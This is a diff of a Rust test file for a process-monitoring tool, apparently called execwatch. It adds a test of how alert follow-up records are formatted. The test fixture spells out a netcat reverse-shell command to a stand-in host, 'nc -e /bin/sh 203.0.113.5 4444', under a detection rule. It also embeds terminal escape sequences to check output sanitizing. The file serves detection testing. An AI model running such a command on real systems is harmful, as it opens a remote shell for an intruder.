@@ -9,10 +9,14 @@ use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::sync::Arc;
 
-use execwatch::alert::{Clock, Host, Notice, Record, ecs, people, text};
+use execwatch::alert::{Clock, Host, Matched, Notice, Record, ecs, people, text};
 use execwatch::calendar::LocalTime;
 use execwatch::diagnostics::Diagnostics;
 use execwatch::evaluate::Evaluator;
+use execwatch::followup::known::{Child, Known, Seen};
+use execwatch::followup::look::{Io, Source};
+use execwatch::followup::record::{Alerted, FollowUp, Occasion};
+use execwatch::followup::sockets::{Protocol, Socket};
 use execwatch::identity::index::Installed;
 use execwatch::identity::{By, Identity};
 use execwatch::process::details::{Login, Namespaces};
@@ -269,6 +273,88 @@ fn forms_of_a_notice() {
         message: "not everything was seen: 3 programs ended before they were read".to_owned(),
     };
     all_equal(forms("notice", &Record::Notice(notice)));
+}
+
+#[test]
+fn forms_of_a_follow_up() {
+    let second = 1_000_000_000;
+    let alerted = Alerted {
+        id: "18869e6ab35e6f00-1092".to_owned(),
+        rule: Matched {
+            id: "netcat-shell".into(),
+            title: "Netcat with a shell".into(),
+            severity: Severity::High,
+        },
+        pid: 4242,
+        start_ticks: Some(8_640_012),
+        executed_ns: 0,
+        already_running: false,
+        image: image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
+    };
+    let tcp = |remote: Option<&str>, state, sent, received| Socket {
+        inode: 4711,
+        protocol: Protocol::Tcp,
+        local: Some("192.0.2.7:40000".parse().unwrap()),
+        remote: remote.map(|remote| remote.parse().unwrap()),
+        state: Some(state),
+        sent: Some(sent),
+        received: Some(received),
+        path: None,
+    };
+    let seen = |socket, first_ns, last_ns, open| Seen { socket, first_ns, last_ns, open };
+    let connected = Known {
+        sockets: vec![seen(
+            tcp(Some("203.0.113.5:4444"), "established", 1_200_000, 120),
+            second / 10,
+            second,
+            true,
+        )],
+        source: Some(Source::Diag),
+        io: Some(Io { read: 1_300_000, written: 1_200_345, disk_read: 4096, disk_written: 0 }),
+        cpu_ns: Some(20_000_000),
+        looked_ns: Some(second),
+        ..Known::default()
+    };
+    let mut busy = connected.clone();
+    busy.sockets[0].open = false;
+    busy.sockets.push(seen(tcp(None, "listen", 0, 0), 0, 2 * second, true));
+    busy.sockets.push(seen(
+        tcp(Some("[2001:db8::9]:50123"), "established", 9, 3_000_000),
+        second,
+        2 * second,
+        true,
+    ));
+    let unix = Socket {
+        protocol: Protocol::Unix,
+        path: Some((*b"/run/\x1b[2J\xff\n\" x=").into()),
+        ..Socket::default()
+    };
+    busy.sockets.push(seen(unix, 0, 2 * second, true));
+    busy.more_sockets = 7;
+    busy.children = vec![
+        Child { pid: 4243, image: image("/usr/bin/dash", &["sh"]) },
+        Child { pid: 4250, image: image("/usr/bin/id", &["id", "\n\x1b]0;title\x07"]) },
+        Child { pid: 4251, image: Image::default() },
+    ];
+    busy.more_children = 40;
+    busy.files =
+        (0..16).map(|at| format!("/tmp/\u{202e}{at}/{}", "deep/".repeat(80)).into_bytes().into()).collect();
+    busy.more_files = 3;
+    busy.cut = true;
+    let nothing = Known::default();
+    let cases = [
+        ("running", Occasion::Running, second, connected.clone()),
+        ("exited", Occasion::Ended(0), 12 * second, connected.clone()),
+        ("killed", Occasion::Ended(9), 3 * second, busy),
+        ("brief", Occasion::Ended(1 << 8), 3_000_000, nothing),
+        ("unseen", Occasion::EndUnseen, second, connected.clone()),
+        ("let-go", Occasion::LetGo, 90 * second, connected),
+    ];
+    all_equal(cases.into_iter().enumerate().flat_map(|(at, (name, occasion, age_ns, known))| {
+        let (alerted, number) = (alerted.clone(), at as u32 + 1);
+        let record = FollowUp { alerted, number, time_ns: START_NS + age_ns, age_ns, occasion, known };
+        forms(&format!("followup-{name}"), &Record::FollowUp(Box::new(record)))
+    }));
 }
 
 /// Each folder below `mistakes` holds a configuration, rules and what `execwatch check` says of them.
